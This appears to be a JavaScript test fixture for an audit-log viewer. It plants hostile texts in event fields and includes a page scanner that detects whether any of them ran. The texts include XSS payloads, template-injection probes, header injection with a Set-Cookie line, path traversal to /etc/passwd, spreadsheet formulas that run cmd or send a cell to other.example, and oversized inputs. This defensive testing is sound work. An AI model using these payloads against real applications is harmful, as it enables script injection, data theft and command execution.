// What somebody may write into an event to have it read by whoever looks at it later.
import { randomUUID } from 'node:crypto';

const RUN = 'window.__xss=1';
// An element of this name can only have been made by content.
const MADE = '<xss-probe></xss-probe>';

/** Name and text; none may act, all must be shown. */
export const TEXTS = Object.entries({
  script: `${MADE}<script>${RUN}</script>`,
  image: `${MADE}<img src=x onerror="${RUN}">`,
  svg: `"><svg onload=${RUN}><xss-probe>`,
  attribute: `' onfocus='${RUN}' autofocus tabindex=0 x='`,
  quotes: `" onmouseover="${RUN}" style="position:fixed;inset:0" x="`,
  unquoted: `x onpointerenter=${RUN} `,
  scheme: `javascript:${RUN}//<xss-probe>`,
  spaced: `\tjava\nscript:${RUN}`,
  data: `data:text/html,<script>${RUN}</script>`,
  closers: `</title></textarea></style></select></template></noscript>--></script>${MADE}<script>${RUN}</script>`,
  json: `</script><!--<script>"}];${RUN}//`,
  link: `<a href="javascript:${RUN}">go on</a>${MADE}`,
  form: `<form action=https://other.example/><button>Sign in again</button></form>${MADE}`,
  refresh: `<meta http-equiv=refresh content="0;url=https://other.example/"><base href=https://other.example/>${MADE}`,
  frame: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><object data=/></object>${MADE}`,
  style: `<style>*{display:none}</style><link rel=stylesheet href=https://other.example/x.css>${MADE}`,
  htmx: `<div hx-get=/api/me hx-trigger=load hx-on::load="${RUN}" data-row data-copy=body>${MADE}</div>`,
  template: `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= 7*7 %>#{7*7}`,
  turned: 'invoice\u202Egpj.exe\u2066\u200B\u200E\uFEFF\u00AD',
  controls: '\u0001\u0007\u0008\u001B[31mred\u001B[0m\u0085\u2028\u2029\u007F',
  lines: 'one\r\nSet-Cookie: stolen=1\r\n\r\ntwo',
  formula: `=HYPERLINK("https://other.example/?"&A1,"go on")`,
  command: "=cmd|'/c calc'!A1",
  sum: '@SUM(1+1)*cmd',
  minus: '-1+1',
  nothing: 'null',
  object: '[object Object]',
  proto: '__proto__',
  path: '../../../etc/passwd?x=1&y=2#z%2e%2e%2f%00',
  elsewhere: '//other.example/x',
  query: '" OR action:* -outcome:"success" /(a+)+$/ \\',
  stacked: `Z${'\u0301'.repeat(600)}algo`,
  wide: 'W'.repeat(4000),
  family: '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}'.repeat(40),
});

/** An event all of whose texts are this one, as far as they have room for it. */
export function event(text) {
  const upTo = (bytes) => { let cut = text; while (Buffer.byteLength(JSON.stringify(cut)) - 2 > bytes) cut = cut.slice(0, -1 - cut.length / 16); return cut; };
  const kind = upTo(200), id = upTo(4000);
  const free = { [upTo(900)]: text, list: [text, null, 1e400 > 1 ? 12345678901234567890n.toString() : 0, [text]], url: text };
  return {
    id: randomUUID(), action: 'hostile.write', category: 'data_modify', outcome: 'failure',
    actor: { type: 'user', id, name: id, email: id, auth: { method: kind, token_id: id }, on_behalf_of: { type: 'user', id, name: id } },
    targets: [{ type: kind, id, name: id }, { type: kind, id: `${id.slice(0, 1000)}2`, name: id }],
    subjects: [{ type: kind, id }],
    changes: { before: { text, same: text, gone: text, ...free }, after: { text: `${text}!`, same: text, [`new ${upTo(200)}`]: text } },
    details: free,
    error: { code: kind, message: text },
    context: {
      user_agent: id, request_id: id, correlation_id: id, session_id: id, trace_id: id, span_id: kind, service: id, host: id,
      http: { method: kind, path: text, route: text, status: 500 },
    },
  };
}

/** Texts as long as an event has room for, in one word and in many. */
export function huge() {
  const base = () => ({ id: randomUUID(), action: 'hostile.huge', actor: { type: 'user', id: 'huge' }, targets: [{ type: 'file', id: 'huge' }] });
  return [
    { ...base(), details: { text: 'A'.repeat(200_000) } },
    { ...base(), changes: { before: { text: '<b>x</b> '.repeat(11_000) }, after: { text: '<i>x</i> '.repeat(11_000) } } },
    { ...base(), changes: { before: Object.fromEntries(Array.from({ length: 480 }, (_, n) => [`key ${n}`, n])), after: Object.fromEntries(Array.from({ length: 480 }, (_, n) => [`key ${n}`, n + 1])) } },
    { ...base(), details: JSON.parse('{"a":'.repeat(29) + '1' + '}'.repeat(29)) },
    { ...base(), targets: Array.from({ length: 64 }, (_, n) => ({ type: 'file', id: `f-${n}-${'x'.repeat(200)}` })) },
  ];
}

/** Runs in a page: what in it can only have come out of content, or leads out of it. */
export function intruders() {
  const found = [];
  const say = (what, element) => found.push(`${what}: ${element.outerHTML.slice(0, 160)}`);
  for (const element of document.querySelectorAll('xss-probe, iframe, object, embed, base, frame, portal, style, audio, video, img')) say('an element that no page of ours has', element);
  for (const script of document.scripts) if (!new URL(script.src, location.href).pathname.startsWith('/assets/')) say('a script that is not a file of ours', script);
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name.startsWith('hx-on') || name === 'srcdoc' || name === 'style') say(`an attribute ${name}`, element);
      if (['href', 'src', 'action', 'formaction', 'data', 'poster', 'xlink:href', 'hx-get', 'hx-post', 'hx-push-url', 'data-href', 'ping'].includes(name) && !['true', 'false'].includes(value)) {
        let to = null;
        try { to = new URL(value, location.href); } catch { /* said below */ }
        if (to?.origin !== location.origin && to?.protocol !== 'blob:') say(`${name} leads elsewhere`, element);
      }
    }
  }
  if (window.__xss) found.push('a script out of an event ran');
  return found;
}
